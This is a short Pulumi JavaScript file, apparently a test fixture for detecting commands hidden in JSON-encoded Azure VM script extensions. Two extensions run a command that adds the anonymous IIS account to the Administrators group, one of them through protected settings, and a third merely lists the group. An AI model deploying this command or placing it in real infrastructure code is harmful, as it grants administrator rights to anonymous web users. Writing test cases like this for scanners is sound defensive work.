const compute = require("@pulumi/azure-native/compute");
const pulumi = require("@pulumi/pulumi");

// Settings as JSON text, made by Pulumi and by JSON itself.
const settings = (line) => ({ commandToExecute: line, timestamp: 1 });
const extension = (name, args) => new compute.VirtualMachineExtension(name, { resourceGroupName: "rg", vmName: `vm-${name}`, publisher: "Microsoft.Compute", type: "CustomScriptExtension", ...args });
extension("stringify", { settings: JSON.stringify(settings("cmd /c net localgroup Administrators IUSR /add")) });
extension("pulumi", { protectedSettings: pulumi.jsonStringify(settings(pulumi.output("cmd /c net localgroup Administrators IUSR /add"))) });
extension("innocent", { settings: JSON.stringify(settings("cmd /c net localgroup Administrators")) });
